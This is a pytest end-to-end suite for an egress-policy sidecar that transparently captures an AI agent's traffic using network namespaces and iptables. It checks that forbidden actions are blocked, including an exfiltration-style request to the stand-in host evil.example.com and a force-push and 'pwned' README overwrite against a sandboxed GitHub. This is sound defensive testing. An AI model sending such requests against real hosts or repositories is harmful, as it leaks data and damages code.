"""Transparent capture (SPEC §9) end to end in a network namespace: an agent with no proxy settings
whose only route out is the sidecar.

Topology, made fresh for each test and torn down in ``finally``:

- the agent runs in its own network namespace (``ip netns exec``), joined to the root namespace by a
  veth pair with link-local /30 addresses; its default route points at the root side;
- inside the agent's namespace, iptables DNATs every outbound TCP connection to ports 443 and 80 to the
  sidecar's transparent listener, and rejects everything else that is not loopback: the agent's only
  route out is the sidecar;
- the sidecar (a real ``enact-proxy run``) runs in the root namespace, with ``listen.transparent`` on the
  root side's veth address, so it reaches the sandbox upstreams on the root namespace's loopback;
- DNS: ``ip netns exec`` bind-mounts ``/etc/netns/<name>/hosts`` over ``/etc/hosts`` in the agent's
  namespace only; it maps the vendors' names to an arbitrary link-local address (nothing listens
  there: the DNAT sends the connection to the sidecar whatever its destination).

The DNAT happens in the agent's namespace, so the sidecar's kernel has no record of the original
destination: the sidecar must (and does) route by TLS server name / Host alone.

The last test is the pod topology instead: agent and sidecar (non-root) share one namespace, and
deploy/redirect.sh REDIRECTs every TCP connection of any other UID to the transparent listener.
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from enact_proxy.launcher import LISTENING
from enact_proxy.sandbox import SandboxGitHub, SandboxHubSpot
from tests.e2e.harness import RunningSidecar, start_sidecar, wait_until, write_config

ROOT = Path(__file__).resolve().parents[2]

VENDOR_ADDRESS = "169.254.1.1"  # what the agent's /etc/hosts says every vendor host is
VENDOR_HOSTS = ["api.hubapi.com", "api.github.com", "evil.example.com"]


def _run(*args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    return subprocess.run(list(args), capture_output=True, text=True, check=check, timeout=30)


def _unavailable(reason: str) -> None:
    """Skip where namespaces are not permitted, except in CI, where these tests must run."""
    if os.environ.get("CI") == "true":
        pytest.fail(f"transparent capture e2e cannot run: {reason}")
    pytest.skip(f"transparent capture e2e needs network namespaces and iptables: {reason}")


@dataclass
class AgentNamespace:
    name: str
    host_ip: str    # the root side of the veth: the sidecar's transparent listener binds here
    agent_ip: str
    transparent_port: int

    def run_python(self, code: str, timeout: float = 60) -> Any:
        """Run an agent script inside the namespace with no proxy settings; it prints one JSON value."""
        env = {k: v for k, v in os.environ.items() if not k.lower().endswith("_proxy")
               and k not in ("REQUESTS_CA_BUNDLE", "SSL_CERT_FILE", "CURL_CA_BUNDLE")}
        done = subprocess.run(["ip", "netns", "exec", self.name, sys.executable, "-c", textwrap.dedent(code)],
                              capture_output=True, text=True, timeout=timeout, env=env)
        assert done.returncode == 0, done.stderr
        return json.loads(done.stdout.strip().splitlines()[-1])


@contextlib.contextmanager
def _veth_namespace(prefix: str) -> Iterator[tuple[str, str, str]]:
    """A fresh namespace joined to the root one by a veth pair with link-local addresses, its default
    route via the root side, and its own /etc/hosts; yields (name, root side's IP, its own IP)."""
    if os.geteuid() != 0:
        _unavailable("not running as root")
    for tool in ("ip", "iptables"):
        if shutil.which(tool) is None:
            _unavailable(f"`{tool}` is not installed (apt-get install iproute2 iptables)")
    tag = f"{random.getrandbits(24):06x}"
    name, host_if, agent_if = f"enact-{prefix}{tag}", f"e{prefix}{tag}h", f"e{prefix}{tag}a"
    in_use = _run("ip", "-o", "-4", "addr", "show", check=False).stdout
    while True:  # a /30 no other interface of this machine uses (other test runs may be in flight)
        base, subnet_octet = random.randrange(0, 64) * 4, random.randrange(2, 254)
        if f"169.254.{subnet_octet}.{base + 1}/" not in in_use:
            break
    host_ip, agent_ip = f"169.254.{subnet_octet}.{base + 1}", f"169.254.{subnet_octet}.{base + 2}"
    made = _run("ip", "netns", "add", name, check=False)
    if made.returncode != 0:
        _unavailable(f"`ip netns add` is not permitted here: {made.stderr.strip()}")
    hosts_dir = Path("/etc/netns") / name
    try:
        _run("ip", "link", "add", host_if, "type", "veth", "peer", "name", agent_if)
        _run("ip", "link", "set", agent_if, "netns", name)
        _run("ip", "addr", "add", f"{host_ip}/30", "dev", host_if)
        _run("ip", "link", "set", host_if, "up")
        _run("ip", "-n", name, "addr", "add", f"{agent_ip}/30", "dev", agent_if)
        _run("ip", "-n", name, "link", "set", agent_if, "up")
        _run("ip", "-n", name, "link", "set", "lo", "up")
        _run("ip", "-n", name, "route", "add", "default", "via", host_ip)
        hosts_dir.mkdir(parents=True, exist_ok=True)
        (hosts_dir / "hosts").write_text("127.0.0.1 localhost\n"
                                         + "".join(f"{VENDOR_ADDRESS} {h}\n" for h in VENDOR_HOSTS))
        yield name, host_ip, agent_ip
    finally:
        _run("ip", "netns", "del", name, check=False)  # removes the agent end; the peer goes with it
        _run("ip", "link", "del", host_if, check=False)
        shutil.rmtree(hosts_dir, ignore_errors=True)


@contextlib.contextmanager
def agent_namespace() -> Iterator[AgentNamespace]:
    with _veth_namespace("t") as (name, host_ip, agent_ip):
        ns = ("ip", "netns", "exec", name)
        with socket.socket() as probe:  # a free port on the sidecar's address
            probe.bind((host_ip, 0))
            port = probe.getsockname()[1]
        sidecar = f"{host_ip}:{port}"
        for dport in ("443", "80"):
            _run(*ns, "iptables", "-t", "nat", "-A", "OUTPUT", "-p", "tcp", "--dport", dport,
                 "-j", "DNAT", "--to-destination", sidecar)
        # After the DNAT: only loopback and the sidecar's transparent port; everything else is rejected.
        _run(*ns, "iptables", "-A", "OUTPUT", "-o", "lo", "-j", "ACCEPT")
        _run(*ns, "iptables", "-A", "OUTPUT", "-p", "tcp", "-d", host_ip, "--dport", str(port), "-j", "ACCEPT")
        _run(*ns, "iptables", "-A", "OUTPUT", "-p", "tcp", "-j", "REJECT", "--reject-with", "tcp-reset")
        _run(*ns, "iptables", "-A", "OUTPUT", "-j", "REJECT")
        yield AgentNamespace(name, host_ip, agent_ip, port)


@pytest.fixture
def netns() -> Iterator[AgentNamespace]:
    with agent_namespace() as namespace:
        yield namespace


@pytest.fixture
def public_github() -> Iterator[SandboxGitHub]:
    with SandboxGitHub(public_url="https://api.github.com") as server:
        server.add_repo("acme", "app")
        yield server


@pytest.fixture
def transparent_sidecar(tmp_path: Path, netns: AgentNamespace, hubspot: SandboxHubSpot,
                        public_github: SandboxGitHub) -> Iterator[Callable[..., RunningSidecar]]:
    started: list[RunningSidecar] = []

    def make(**config: Any) -> RunningSidecar:
        directory = tmp_path / f"sidecar{len(started)}"
        directory.mkdir()
        path = write_config(directory, systems={
            "hubspot": {"upstream": hubspot.url},
            "github": {"upstream": public_github.url, "git_upstream": public_github.url}}, **config)
        raw = yaml.safe_load(path.read_text())
        raw["listen"]["transparent"] = f"{netns.host_ip}:{netns.transparent_port}"
        path.write_text(yaml.safe_dump(raw, sort_keys=False))
        sidecar = start_sidecar(directory)
        started.append(sidecar)
        return sidecar

    yield make
    for sidecar in started:
        sidecar.stop()


def test_hubspot_sdk_without_proxy_settings_is_judged_and_a_duplicate_refused(
        netns: AgentNamespace, transparent_sidecar: Callable[..., RunningSidecar], hubspot: SandboxHubSpot) -> None:
    sidecar = transparent_sidecar()
    seen = netns.run_python(f"""
        import json
        from hubspot import HubSpot
        from hubspot.crm.contacts import SimplePublicObjectInputForCreate
        from hubspot.crm.contacts.exceptions import ForbiddenException

        client = HubSpot(access_token="agent-token", ssl_ca_cert={str(sidecar.ca)!r})  # no proxy=
        contact = SimplePublicObjectInputForCreate(properties={{"email": "jane@acme.com", "company": "Acme"}})
        created = client.crm.contacts.basic_api.create(simple_public_object_input_for_create=contact)
        try:
            client.crm.contacts.basic_api.create(simple_public_object_input_for_create=contact)
            print(json.dumps({{"created": created.id, "duplicate": "passed"}}))
        except ForbiddenException as exc:
            print(json.dumps({{"created": created.id, "status": exc.status, "headers": dict(exc.headers),
                               "body": json.loads(exc.body)}}))
    """)
    assert seen["created"], seen
    assert seen["status"] == 403, seen
    assert {k.lower(): v for k, v in seen["headers"].items()}["x-enact-decision"] == "BLOCK"
    message = seen["body"]["message"]
    assert message.startswith("Blocked by Enact:") and "no_duplicate_contacts" in message
    assert seen["body"]["category"]  # HubSpot's own error shape
    creates = [r for r in hubspot.received if r.method == "POST" and r.path == "/crm/v3/objects/contacts"]
    assert len(creates) == 1  # the duplicate never reached HubSpot (the policy's search did)
    decisions = [(r["action"], r["decision"]) for r in sidecar.receipts()]
    assert decisions == [("hubspot.create_contact", "PASS"), ("hubspot.create_contact", "BLOCK")]
    blocked = sidecar.receipts()[-1]
    assert blocked["request"]["host"] == "api.hubapi.com" and blocked["payload"]["email"] == "jane@acme.com"


def test_forbidden_github_write_without_proxy_settings_is_refused(
        netns: AgentNamespace, transparent_sidecar: Callable[..., RunningSidecar],
        public_github: SandboxGitHub) -> None:
    sidecar = transparent_sidecar()
    seen = netns.run_python(f"""
        import base64, json, requests
        session = requests.Session()
        session.trust_env = False  # nothing from the environment: no proxy at all
        session.verify = {str(sidecar.ca)!r}
        api = "https://api.github.com/repos/acme/app"
        read = session.get(api, headers={{"Authorization": "token agent"}})
        main = session.get(api + "/git/ref/heads/main").json()["object"]["sha"]
        push = session.patch(api + "/git/refs/heads/main", json={{"sha": main, "force": True}})
        put = session.put(api + "/contents/README.md", json={{"message": "x", "branch": "main",
                          "content": base64.b64encode(b"pwned").decode()}})
        print(json.dumps({{"read": [read.status_code, read.headers.get("X-Enact-Decision")],
                           "push": [push.status_code, push.headers.get("X-Enact-Decision"), push.json()],
                           "put": [put.status_code, put.json()]}}))
    """)
    assert seen["read"] == [200, "PASS"]
    status, decision, body = seen["push"]
    assert (status, decision) == (403, "BLOCK")
    assert body["message"].startswith("Blocked by Enact:") and "no_push_to_main" in body["message"]
    assert "documentation_url" in body  # GitHub's own error shape
    assert seen["put"][0] == 403 and "no_push_to_main" in seen["put"][1]["message"]
    assert not [r for r in public_github.received if r.method in ("PATCH", "PUT")]
    blocked = [r for r in sidecar.receipts() if r["decision"] == "BLOCK"]
    assert [r["action"] for r in blocked] == ["github.push_commit", "github.push_commit"]
    assert {r["payload"]["branch"] for r in blocked} == {"main"}


def test_the_agent_cannot_reach_the_upstream_directly(
        netns: AgentNamespace, transparent_sidecar: Callable[..., RunningSidecar], hubspot: SandboxHubSpot) -> None:
    transparent_sidecar()
    up_host, up_port = hubspot.url.removeprefix("http://").rsplit(":", 1)
    seen = netns.run_python(f"""
        import json, socket
        out = {{}}
        for label, address in [("upstream", ({up_host!r}, {up_port})),
                               ("upstream via the root side", ({netns.host_ip!r}, {up_port}))]:
            try:
                socket.create_connection(address, timeout=5).close()
                out[label] = "connected"
            except OSError as exc:
                out[label] = type(exc).__name__
        print(json.dumps(out))
    """)
    assert seen == {"upstream": "ConnectionRefusedError", "upstream via the root side": "ConnectionRefusedError"}
    # ... while from the root namespace the same upstream answers: it is the namespace that is closed.
    socket.create_connection((up_host, int(up_port)), timeout=5).close()


def test_unknown_and_missing_server_names_are_refused_with_a_receipt(
        netns: AgentNamespace, transparent_sidecar: Callable[..., RunningSidecar]) -> None:
    sidecar = transparent_sidecar()
    seen = netns.run_python(f"""
        import json, socket, ssl, requests
        out = {{}}
        session = requests.Session()
        session.trust_env = False
        try:
            session.get("https://evil.example.com/exfil", verify={str(sidecar.ca)!r}, timeout=10)
            out["tls"] = "answered"
        except requests.RequestException as exc:
            out["tls"] = type(exc).__name__
        plain = session.get("http://evil.example.com/exfil", timeout=10)
        out["http"] = [plain.status_code, plain.headers.get("X-Enact-Decision"), plain.text]
        context = ssl.create_default_context(cafile={str(sidecar.ca)!r})
        context.check_hostname = False
        try:  # TLS without a server name
            with socket.create_connection(({VENDOR_ADDRESS!r}, 443), timeout=10) as raw:
                with context.wrap_socket(raw) as tls:
                    out["no_sni"] = "handshake completed"
        except OSError as exc:
            out["no_sni"] = type(exc).__name__
        print(json.dumps(out))
    """)
    assert seen["tls"] in ("SSLError", "ConnectionError"), seen
    assert seen["http"][:2] == [403, "BLOCK"] and seen["http"][2].startswith("Blocked by Enact:")
    assert seen["no_sni"] != "handshake completed"

    def refusals() -> list[dict[str, Any]]:
        return [r for r in sidecar.receipts() if r["action"] == "egress.connect"]

    wait_until(lambda: len(refusals()) >= 3, what="three egress receipts")
    found = {(r["request"]["method"], r["payload"]["host"]) for r in refusals()}
    assert ("TLS", "evil.example.com") in found  # refused at its ClientHello: no TLS, nothing dialled
    assert ("GET", "evil.example.com") in found  # plain HTTP: routed (and refused) by its Host
    assert ("TLS", None) in found
    unnamed = [r for r in refusals() if r["payload"]["host"] is None]
    assert all("without a server name" in r["reason"] for r in unnamed)
    assert {r["decision"] for r in refusals()} == {"BLOCK"}


# -- the pod topology: REDIRECT in the namespace the agent and the sidecar share ------------------

SIDECAR_UID = 65534  # stands in for the image's 10001: any UID that is not the agent's


def _self_signed(tmp_path: Path, name: str) -> tuple[Path, Path, bytes]:
    from datetime import UTC, datetime, timedelta

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
    now = datetime.now(UTC)
    cert = (x509.CertificateBuilder().subject_name(subject).issuer_name(subject).public_key(key.public_key())
            .serial_number(x509.random_serial_number()).not_valid_before(now - timedelta(days=1))
            .not_valid_after(now + timedelta(days=1)).sign(key, hashes.SHA256()))
    cert_file, key_file = tmp_path / f"{name}.pem", tmp_path / f"{name}.key"
    cert_file.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_file.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                           serialization.NoEncryption()))
    return cert_file, key_file, cert.public_bytes(serialization.Encoding.DER)


TLS_SERVER = textwrap.dedent("""
    import socket, ssl, sys
    cert, key, port, log = sys.argv[1:5]
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    server = socket.socket()
    server.bind(("127.0.0.1", int(port)))
    server.listen()
    print("ready", flush=True)
    raw, _ = server.accept()
    with context.wrap_socket(raw, server_side=True) as conn:
        open(log, "wb").write(conn.recv(65536))
        conn.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\nok")
""")


def _start_in_namespace(namespace: str, directory: Path) -> RunningSidecar:
    """``enact-proxy run`` inside the namespace as the sidecar's UID, as the native sidecar runs."""
    exe = shutil.which("enact-proxy")
    command = [exe] if exe else [sys.executable, "-m", "enact_proxy.cli"]
    process = subprocess.Popen(
        ["ip", "netns", "exec", namespace, "setpriv", f"--reuid={SIDECAR_UID}", f"--regid={SIDECAR_UID}",
         "--clear-groups", *command, "run", "--config", str(directory / "enact.yaml")],
        cwd=directory, env={**os.environ, "HOME": str(directory)}, stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT, text=True, bufsize=1)
    output: list[str] = []
    assert process.stdout is not None
    for line in process.stdout:
        output.append(line)
        match = LISTENING.search(line)
        if match:
            threading.Thread(target=lambda: output.extend(process.stdout or []), daemon=True).start()
            return RunningSidecar(process, directory, match.group(1), None, output)
    process.wait()
    raise AssertionError("enact-proxy did not start in the namespace:\n" + "".join(output))


def test_pod_redirect_captures_the_agent_and_lets_only_the_sidecar_out(tmp_path: Path) -> None:
    """deploy/redirect.sh in the namespace the agent shares with a non-root sidecar (a pod): the
    kernel knows each connection's original destination, and the sidecar still routes by name."""
    with contextlib.ExitStack() as stack:
        name, host_ip, _ = stack.enter_context(_veth_namespace("p"))
        hubspot = stack.enter_context(SandboxHubSpot(host=host_ip))  # reachable from the pod's namespace
        redirect = subprocess.run(["ip", "netns", "exec", name, "sh", str(ROOT / "deploy" / "redirect.sh")],
                                  env={**os.environ, "ENACT_UID": str(SIDECAR_UID), "ENACT_TRANSPARENT_PORT": "15001"},
                                  capture_output=True, text=True, timeout=30)
        assert redirect.returncode == 0, redirect.stderr
        directory = Path(tempfile.mkdtemp(prefix="enact-pod-"))
        stack.callback(shutil.rmtree, directory, True)
        directory.chmod(0o755)
        path = write_config(directory, systems={"hubspot": {"upstream": f"http://{host_ip}:{hubspot.port}"}},
                            passthrough=["localhost"], workflows={"leads": ["hubspot.create_contact"]})
        raw = yaml.safe_load(path.read_text())
        raw["listen"]["transparent"] = "127.0.0.1:15001"
        path.write_text(yaml.safe_dump(raw, sort_keys=False))
        os.chown(directory, SIDECAR_UID, SIDECAR_UID)
        os.chown(path, SIDECAR_UID, SIDECAR_UID)
        sidecar = _start_in_namespace(name, directory)
        stack.callback(sidecar.stop)

        cert, key, upstream_der = _self_signed(tmp_path, "localhost")
        log = tmp_path / "passthrough.log"
        server = subprocess.Popen(["ip", "netns", "exec", name, sys.executable, "-c", TLS_SERVER, str(cert), str(key),
                                   "8443", str(log)], stdout=subprocess.PIPE, text=True)
        stack.callback(server.kill)
        assert server.stdout is not None and server.stdout.readline().strip() == "ready"

        agent = AgentNamespace(name, host_ip, "", 15001)
        seen = agent.run_python(f"""
            import json, socket, ssl, requests
            from hubspot import HubSpot
            from hubspot.crm.contacts import SimplePublicObjectInputForCreate
            from hubspot.crm.contacts.exceptions import ForbiddenException
            out = {{}}
            client = HubSpot(access_token="agent-token", ssl_ca_cert={str(sidecar.ca)!r})
            contact = SimplePublicObjectInputForCreate(properties={{"email": "pod@acme.com"}})
            out["created"] = client.crm.contacts.basic_api.create(simple_public_object_input_for_create=contact).id
            try:
                client.crm.contacts.basic_api.create(simple_public_object_input_for_create=contact)
                out["duplicate"] = "passed"
            except ForbiddenException as exc:
                out["duplicate"] = [exc.status, json.loads(exc.body)["message"]]
            # Straight at the upstream's address and port: redirected like everything else, and refused.
            session = requests.Session()
            session.trust_env = False
            direct = session.get("http://{host_ip}:{hubspot.port}/crm/v3/objects/contacts", timeout=10)
            out["direct"] = [direct.status_code, direct.headers.get("X-Enact-Decision")]
            # A passthrough host on a port of its own: tunnelled untouched to localhost:8443, by name.
            context = ssl.create_default_context(cafile={str(cert)!r})
            with socket.create_connection(({VENDOR_ADDRESS!r}, 8443), timeout=10) as raw:
                with context.wrap_socket(raw, server_hostname="localhost") as tls:
                    out["passthrough_cert"] = tls.getpeercert(binary_form=True).hex()
                    tls.sendall(b"GET /v1/models HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n")
                    out["passthrough"] = tls.recv(65536).decode()
            print(json.dumps(out))
        """)
        assert seen["created"]
        assert seen["duplicate"][0] == 403 and "no_duplicate_contacts" in seen["duplicate"][1]
        assert seen["direct"] == [403, "BLOCK"]
        assert bytes.fromhex(seen["passthrough_cert"]) == upstream_der  # no interception
        assert seen["passthrough"].startswith("HTTP/1.1 200") and "x-enact" not in seen["passthrough"].lower()
        assert log.read_bytes().startswith(b"GET /v1/models")
        creates = [r for r in hubspot.received if r.method == "POST" and r.path == "/crm/v3/objects/contacts"]
        assert len(creates) == 1 and not [r for r in hubspot.received if r.method == "GET"]
        decisions = [(r["action"], r["decision"]) for r in sidecar.receipts()]
        assert decisions == [("hubspot.create_contact", "PASS"), ("hubspot.create_contact", "BLOCK"),
                             ("egress.connect", "BLOCK")]


def test_with_two_http_workers_both_take_redirected_connections(
        netns: AgentNamespace, transparent_sidecar: Callable[..., RunningSidecar], hubspot: SandboxHubSpot,
        tmp_path: Path) -> None:
    from tests.e2e.test_http_workers import CONNECTIONS, SERVING, _serving

    sidecar = transparent_sidecar(workers=2, workflows={"crm": ["hubspot.get_contact"]}, policies=[])
    wait_until(lambda: any(SERVING.search(line) for line in sidecar.output), what="the second front", timeout=60)
    worker = int(next(m.group(1) for line in sidecar.output if (m := SERVING.search(line))))
    hubspot.add_contact("jane@acme.com")
    done = tmp_path / "done"
    env = {k: v for k, v in os.environ.items() if not k.lower().endswith("_proxy")
           and k not in ("REQUESTS_CA_BUNDLE", "SSL_CERT_FILE", "CURL_CA_BUNDLE")}
    agent = subprocess.Popen(["ip", "netns", "exec", netns.name, sys.executable, "-c", textwrap.dedent(f"""
        import json, os, time, requests
        sessions = [requests.Session() for _ in range({CONNECTIONS})]
        statuses = [s.get("https://api.hubapi.com/crm/v3/objects/contacts/1001", verify={str(sidecar.ca)!r},
                          headers={{"Authorization": "Bearer agent"}},
                          timeout=30).status_code for s in sessions]
        print(json.dumps(statuses), flush=True)
        while not os.path.exists({str(done)!r}):  # keep every connection open until the test has looked
            time.sleep(0.05)
    """)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    try:
        assert agent.stdout is not None
        statuses = json.loads(agent.stdout.readline() or "null")
        assert statuses == [200] * CONNECTIONS, agent.stderr.read() if statuses is None else statuses
        counts = _serving(netns.transparent_port, [sidecar.process.pid, worker])
        assert sum(counts.values()) == CONNECTIONS and all(counts.values()), counts
    finally:
        done.touch()
        agent.wait(30)
    assert [r["decision"] for r in sidecar.receipts()] == ["PASS"] * CONNECTIONS
